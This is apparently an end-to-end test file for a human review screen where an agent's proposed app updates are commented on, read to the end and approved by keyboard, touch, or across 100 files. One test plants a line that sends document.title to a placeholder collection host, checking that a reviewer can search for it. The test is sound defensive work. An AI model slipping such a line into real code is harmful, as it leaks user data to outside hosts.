import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Proposed } from "../testkit/agent.ts";
import { launchBrowser } from "../testkit/browser.ts";
import { complaintsOf, LOOKS } from "../testkit/looks.ts";
import { McpAgent, type ReadProposal } from "../testkit/mcp-agent.ts";
import { signInOn } from "../testkit/pages.ts";
import { Person } from "../testkit/person.ts";
import { readToEnd } from "../testkit/reading.ts";
import { TestServer } from "../testkit/server.ts";
import { Finger } from "../testkit/touch.ts";

// The review loop for whoever has no mouse: by keyboard alone, by touch alone, and over a card of 100 files.

/** Much is read to its end here, at the pace of a person. */
const SLOW = { timeout: 300_000 };

let server: TestServer;
let browser: Browser;
let agent: McpAgent;
let owner: Person;
let page: Page;

beforeAll(async () => {
  server = await TestServer.launch({ env: { ANTEROOM_PENDING_LIMIT: "0" } });
  browser = await launchBrowser();
  owner = await Person.signIn(server.origin);
  agent = await McpAgent.connect(server);
});
afterAll(async () => {
  await agent?.close();
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
});

type Files = Readonly<Record<string, string>>;

/** So many lines that no window holds them. */
const lines = (many: number, name = "step"): string =>
  Array.from({ length: many }, (_, n) => `export const ${name}${n + 1} = ${n + 1};\n`).join("");
const STANDING: Files = { "src/App.tsx": "export default () => <p>The first board</p>;\n" };
const HELP = 'const HELP = "https://help.example.test/boards";';
const board = (help: string): string =>
  `import { labels } from "./labels";\n\n${help}\n\nexport default () => <p title={HELP}>{labels.title}</p>;\n`;
const FIRST: Files = {
  "src/App.tsx": board(HELP),
  "src/labels.ts": `export const labels = {\n  title: "Board",\n};\n`,
  // As high as a phone shows a file at once, and higher than any window.
  "src/names.ts": lines(30, "name"),
  "src/steps.ts": lines(120),
};
const SECOND: Files = {
  ...FIRST,
  "src/App.tsx": board('const HELP = "Ask Maria";'),
  "src/labels.ts": `// Answered.\nexport const labels = {\n  title: "Board",\n  by: "us",\n};\n`,
};

const bar = (): Locator => page.getByRole("region", { name: "Decision" });
const file = (path: string): Locator => page.locator(`[data-file="${path}"]`);
const act = (name: string): Locator => bar().getByRole("button", { name });
const approve = (): Locator => act("Approve as update");
/** What waits, in the queue. */
const rowOf = (name: string): Locator => page.locator("[data-card]").filter({ hasText: name });
const isHeld = async (button: Locator): Promise<boolean> =>
  (await button.getAttribute("aria-disabled")) === "true";
const isSeen = async (path: string): Promise<boolean> =>
  (await file(path).getByText("Seen to its end").count()) > 0;

/** Signs in; from then on the page writes down by what it is pressed, which the answer checks before it leaves. */
async function openHome(look: keyof typeof LOOKS) {
  const context = await browser.newContext(LOOKS[look]);
  page = await context.newPage();
  const complaints = complaintsOf(page);
  await signInOn(page, server.origin);
  await page.evaluate(() => {
    const presses = new Set<string>();
    Object.assign(globalThis, { presses });
    document.addEventListener("pointerdown", ({ pointerType }) => presses.add(pointerType), true);
  });
  return async (pressedBy?: readonly string[]): Promise<void> => {
    expect(complaints).toEqual([]);
    if (pressedBy) expect(await page.evaluate("[...presses]")).toEqual(pressedBy);
    await context.close();
  };
}

/** An app that stands, and a proposal to update it for whose decision the agent waits. */
async function proposeUpdate(name: string) {
  const standing = await agent.propose(name, STANDING);
  await owner.approve(standing.proposal_id);
  const first = await agent.propose(name, FIRST);
  return { standing, first, told: agent.waitFor(first.proposal_id) };
}

const BY_WHOM = "Say by whom.";
const thread = (): Locator => file("src/labels.ts").getByRole("article").filter({ hasText: BY_WHOM });

/** The agent answers one of the comments, proposes the next revision, and waits again. */
async function answer(name: string, { proposal_id }: Proposed, { decision }: ReadProposal) {
  const comment_id = decision?.comments?.find(({ body }) => body === BY_WHOM)?.comment_id;
  const reply = { body: "It says by whom now.", idempotency_key: `reply ${name}` };
  await agent.tool("reply_to_proposal_comment", { proposal_id, comment_id, ...reply });
  const second = await agent.propose(name, SECOND);
  return { second, toldAgain: agent.waitFor(second.proposal_id) };
}

/** The tab runs what was approved last. */
async function runsUpdate(instance_id: string, name: string): Promise<void> {
  const { room_id } = agent;
  const { apps } = await agent.tool<{ apps: object[] }>("list_room_apps", { room_id, limit: 50 });
  expect(apps).toContainEqual(expect.objectContaining({ instance_id, name, version: 3 }));
  await page.locator("iframe:visible").contentFrame().getByTitle("Ask Maria").waitFor();
}

describe("by keyboard alone", () => {
  const press = async (...keys: readonly string[]): Promise<void> => {
    for (const key of keys) await page.keyboard.press(key);
  };
  const hasFocus = async (place: Locator): Promise<boolean> =>
    await place.evaluateAll((all) => all.some((one) => one === document.activeElement));

  /** Tab after Tab, as a person does, until it is reached. */
  async function tabTo(place: Locator): Promise<void> {
    await place.waitFor();
    for (let step = 0; step < 60 && !(await hasFocus(place)); step += 1) await press("Tab");
    expect(await hasFocus(place)).toBe(true);
  }
  /** J to a file, and page by page to its end, until the card says that it was seen. */
  async function read(path: string): Promise<void> {
    const box = file(path).locator("[data-file-box]");
    for (let step = 0; step < 5 && !(await hasFocus(box)); step += 1) await press("j");
    expect(await hasFocus(box)).toBe(true);
    for (let step = 0; step < 200 && !(await isSeen(path)); step += 1) {
      const isAtEnd = await box.evaluate((one) => one.scrollTop + one.clientHeight >= one.scrollHeight - 1);
      if (!isAtEnd) await press("PageDown");
      await page.waitForTimeout(100);
    }
    expect(await isSeen(path)).toBe(true);
  }

  test("a person asks for changes, reads the answer, lets it in and opens it", SLOW, async () => {
    const name = "Keys board";
    const leave = await openHome("desk, light");
    const { standing, first, told } = await proposeUpdate(name);
    await press("g", "c");
    await rowOf(name).waitFor();
    await press("j");
    expect(await hasFocus(rowOf(name))).toBe(true);
    await press("Enter");
    await page.getByText(`Update of ${name} (revision 1)`).waitFor();

    // A finding, a comment on its line, and what should stand there instead.
    await file("src/App.tsx").getByText("help.example.test").first().waitFor();
    await press("n", "c");
    await file("src/App.tsx").getByRole("textbox", { name: "Comment on line 3" }).waitFor();
    await page.keyboard.type("No address, please.");
    await tabTo(page.getByRole("button", { name: "Suggest a change" }));
    await press("Enter");
    expect(await hasFocus(page.getByLabel("Write it like this instead"))).toBe(true);
    await press("Control+a");
    await page.keyboard.type('const HELP = "Ask Maria";');
    await press("Control+Enter");
    await file("src/App.tsx").getByText("Draft, not sent").waitFor();
    // A line of the next file, chosen by arrows.
    await press("j");
    await tabTo(file("src/labels.ts").locator("[data-pick-line]"));
    await press("ArrowDown", "c");
    await file("src/labels.ts").getByRole("textbox", { name: "Comment on line 2" }).waitFor();
    await page.keyboard.type(BY_WHOM);
    await press("Control+Enter");

    expect(await isHeld(approve())).toBe(true);
    await tabTo(act("Request changes (2)"));
    await press("Enter");
    await page.getByRole("dialog").getByLabel("About the whole, if you like").waitFor();
    await page.keyboard.type("Nearly there.");
    await press("Control+Enter");
    await bar().getByText("The agent was told").waitFor();
    const asked = await told;
    expect(asked).toMatchObject({ state: "changes_requested", decision: { untrusted: true } });
    expect(asked.decision?.comments).toEqual([
      expect.objectContaining({ body: "Nearly there." }),
      expect.objectContaining({
        file: "src/App.tsx",
        line: 3,
        quote: HELP,
        body: "No address, please.",
        suggestion: 'const HELP = "Ask Maria";',
      }),
      expect.objectContaining({ file: "src/labels.ts", line: 2, body: BY_WHOM }),
    ]);

    const { second, toldAgain } = await answer(name, first, asked);
    await tabTo(bar().getByRole("link", { name: "Look at it" }));
    await press("Enter");
    await page.waitForURL(`**/${second.proposal_id}`);
    await page.getByText("Revision 3 answers 1 of 3 comments.").waitFor();
    expect(await isHeld(approve())).toBe(true);
    await page.getByText("Comparing…").first().waitFor({ state: "detached" });
    for (const path of Object.keys(SECOND)) await read(path);
    expect(await isHeld(approve())).toBe(false);
    await thread().getByText("It says by whom now.").waitFor();
    await press("n");
    await tabTo(thread().getByRole("button", { name: "Resolve" }));
    await press("Enter");
    await file("src/labels.ts").getByText("Resolved by Owner").waitFor();
    await tabTo(approve());
    await press("Enter");
    await bar().getByText("Updated in Team room").waitFor();
    expect(await toldAgain).toMatchObject({ state: "approved" });
    await tabTo(bar().getByRole("link", { name: "Open the tab" }));
    await press("Enter");
    await runsUpdate(standing.instance_id, name);
    await leave([]);
  });
});

describe("on a phone, by touch alone", () => {
  const tapLine = async (path: string, line: number): Promise<void> =>
    await file(path)
      .locator(`[data-line="${line}"]`)
      .first()
      .tap({ position: { x: 10, y: 8 } });
  /** From Connected at the thumb to a card. */
  const openCard = async (name: string): Promise<void> => {
    await page.getByRole("navigation").getByText("Connected").tap();
    await rowOf(name).tap();
    await page.getByRole("heading", { level: 1, name }).waitFor();
  };
  /** With the keyboard that the phone brings up. */
  const write = async (field: Locator, words: string): Promise<void> => {
    await field.tap();
    await page.keyboard.insertText(words);
  };

  test(
    "a person asks for changes, reads the answer, lets it in, opens it, and declines another",
    SLOW,
    async () => {
      const name = "Thumb board";
      const leave = await openHome("phone, light");
      const finger = await Finger.on(page);
      const { standing, first, told } = await proposeUpdate(name);
      await openCard(name);
      const app = file("src/App.tsx");
      await tapLine("src/App.tsx", 3);
      await write(app.getByRole("textbox", { name: "Comment on line 3" }), "No address, please.");
      await app.getByRole("button", { name: "Suggest a change" }).tap();
      await write(app.getByLabel("Write it like this instead"), " // or a name");
      await app.getByRole("button", { name: "Save draft" }).tap();
      await app.getByText("Draft, not sent").waitFor();
      await tapLine("src/labels.ts", 2);
      await write(file("src/labels.ts").getByRole("textbox", { name: "Comment on line 2" }), BY_WHOM);
      await file("src/labels.ts").getByRole("button", { name: "Save draft" }).tap();
      await act("Request changes (2)").tap();
      await page.getByRole("dialog").getByRole("button", { name: "Send" }).tap();
      await bar().getByText("The agent was told").waitFor();
      const asked = await told;
      expect(asked.decision?.comments).toEqual([
        expect.objectContaining({ line: 3, suggestion: expect.stringContaining("// or a name") }),
        expect.objectContaining({ file: "src/labels.ts", line: 2, body: BY_WHOM }),
      ]);

      const { second, toldAgain } = await answer(name, first, asked);
      await bar().getByRole("link", { name: "Look at it" }).tap();
      await page.waitForURL(`**/${second.proposal_id}`);
      await page.getByText("Revision 3 answers 1 of 2 comments.").waitFor();
      expect(await isHeld(approve())).toBe(true);
      for (let step = 0; step < 150 && (await isHeld(approve())); step += 1) await finger.swipeUp();
      for (const path of Object.keys(SECOND)) expect(await isSeen(path)).toBe(true);
      expect(await isHeld(approve())).toBe(false);
      await thread().getByRole("button", { name: "Resolve" }).tap();
      await file("src/labels.ts").getByText("Resolved by Owner").waitFor();

      // The other decisions are a tap away, and a tap beside them decides nothing.
      expect(await act("Decline").count()).toBe(0);
      await act("Other decisions").tap();
      await page.getByRole("menu").waitFor();
      expect(await page.getByRole("menuitem").allInnerTexts()).toEqual(["Approve and create", "Decline"]);
      await page.touchscreen.tap(195, 120);
      await page.getByRole("menu").waitFor({ state: "hidden" });
      expect((await owner.card(second.proposal_id)).state).toBe("pending");
      await approve().tap();
      await bar().getByText("Updated in Team room").waitFor();
      expect(await toldAgain).toMatchObject({ state: "approved" });
      await bar().getByRole("link", { name: "Open the tab" }).tap();
      await runsUpdate(standing.instance_id, name);

      const third = await agent.propose(name, FIRST);
      const toldLast = agent.waitFor(third.proposal_id);
      await openCard(name);
      await act("Other decisions").tap();
      await page.getByRole("menuitem", { name: "Decline" }).tap();
      await page.getByRole("dialog").getByRole("button", { name: "Decline" }).tap();
      await bar().getByText("You declined this.").waitFor();
      expect(await toldLast).toMatchObject({ state: "declined" });
      await leave(["touch"]);
    },
  );
});

describe("a card of 100 files", () => {
  const PAYLOAD = 'fetch("https://collect.example.test/" + document.title);\n';
  const parts = Array.from({ length: 99 }, (_, n) => `src/part-${String(n + 1).padStart(2, "0")}.ts`);
  const PATHS = ["src/App.tsx", ...parts];
  const SIXTIETH = PATHS[59] ?? "";
  const LAST = PATHS[99] ?? "";
  const CHANGED = [3, 17, 34, 59, 71, 88, 99].map((at) => PATHS[at] ?? "");
  const before: Files = {
    ...Object.fromEntries(parts.map((path, n) => [path, `export const part${n} = ${n};\n`])),
    "src/App.tsx": "export default () => <p>A hundred</p>;\n",
  };
  const withPayload = `${lines(60)}${PAYLOAD}${lines(20, "more")}`;

  async function open(proposal_id: string): Promise<void> {
    await page.goto(`${server.origin}/connected/proposals/${proposal_id}`);
    await page.getByRole("heading", { name: "Review all proposed files (100)" }).waitFor();
    await page.getByText("Comparing…").first().waitFor({ state: "detached" });
  }
  const rail = (): Locator => page.getByRole("navigation", { name: "Files" });
  /** Looks for the payload, which leads to it and to nothing else. */
  async function search(): Promise<void> {
    await page.keyboard.press("/");
    await page.keyboard.type("collect.example");
    const found = page.getByRole("search").getByRole("status");
    await expect.poll(async () => await found.innerText()).toBe("1 found");
    await page.keyboard.press("Enter");
    await expect.poll(async () => await found.innerText()).toBe("1 of 1");
    await expect.poll(async () => await page.evaluate(() => CSS.highlights.get("found-here")?.size)).toBe(1);
    const line = file(SIXTIETH).locator("[data-line='61']").first();
    expect(await line.innerText()).toContain("collect.example.test");
    await page.keyboard.press("Escape");
  }
  /** Every file is in the receipt that is signed, and on the page that shows it. */
  async function expectReceipt(instance_id: string, name: string): Promise<void> {
    interface History {
      readonly versions: readonly { readonly receipt?: { readonly text: string } }[];
    }
    const { versions } = await owner.do<History>("read_app_history", { room_id: agent.room_id, instance_id });
    const { files_seen } = JSON.parse(versions[0]?.receipt?.text ?? "{}") as { files_seen: unknown };
    expect(files_seen).toEqual(PATHS.map((path) => [path, "seen"]));
    await bar().getByRole("link", { name: "Open the tab" }).click();
    await page.getByRole("button", { name: `Menu of ${name}`, exact: true }).click();
    await page.getByRole("menuitem", { name: "Receipt…" }).click();
    await page.getByRole("dialog").getByText("100 files seen to their end").waitFor();
  }

  test("an update of seven tells of all, and is let in when the seven were read", SLOW, async () => {
    const leave = await openHome("desk, light");
    const { proposal_id, instance_id } = await agent.propose("Hundred", before);
    await owner.approve(proposal_id);
    const changes = CHANGED.map((path) => [path, path === SIXTIETH ? withPayload : lines(80)]);
    await open((await agent.propose("Hundred", { ...before, ...Object.fromEntries(changes) })).proposal_id);
    await expect
      .poll(async () => await rail().getByRole("heading").allInnerTexts())
      .toEqual(["Changed 7", "Unchanged 93"]);
    await page.getByText(/^93 of 100 read$/).waitFor();
    await rail().getByRole("button", { name: "85 more" }).click();
    expect(await rail().getByRole("listitem").count()).toBe(100);
    const files = page.locator("[data-file]");
    const shown = await files.evaluateAll((all) => all.map((one) => one.getAttribute("data-file")));
    expect(shown).toEqual([...CHANGED, ...PATHS.filter((path) => !CHANGED.includes(path))]);
    await search();
    for (const [index, path] of CHANGED.entries()) {
      expect(await isHeld(approve())).toBe(true);
      await page.getByText(`${93 + index} of 100 read`).waitFor();
      await readToEnd(file(path));
    }
    await page.getByText("100 of 100 read").waitFor();
    await bar().getByText("All 100 files read.").waitFor();
    expect(await isHeld(approve())).toBe(false);
    await approve().click();
    await bar().getByText("Updated in Team room").waitFor();
    await expectReceipt(instance_id, "Hundred");
    await leave();
  });

  test("a new app of as many is let in when all were read", SLOW, async () => {
    const leave = await openHome("desk, light");
    const files = { ...before, [SIXTIETH]: withPayload, [LAST]: lines(120) };
    const { proposal_id, instance_id } = await agent.propose("Hundred anew", files);
    await open(proposal_id);
    const create = act("Approve and create");
    expect(await rail().getByRole("heading").allInnerTexts()).toEqual(["Files 100"]);
    expect(await rail().getByRole("listitem").count()).toBe(100);
    expect(await page.locator("[data-file-box]").count()).toBe(100);
    await search();
    for (const path of PATHS) {
      expect(await isHeld(create)).toBe(true);
      await readToEnd(file(path));
    }
    await bar().getByText("All 100 files read.").waitFor();
    expect(await isHeld(create)).toBe(false);
    await create.click();
    await bar().getByText("Every member has the tab now.").waitFor();
    await expectReceipt(instance_id, "Hundred anew");
    await leave();
  });
});
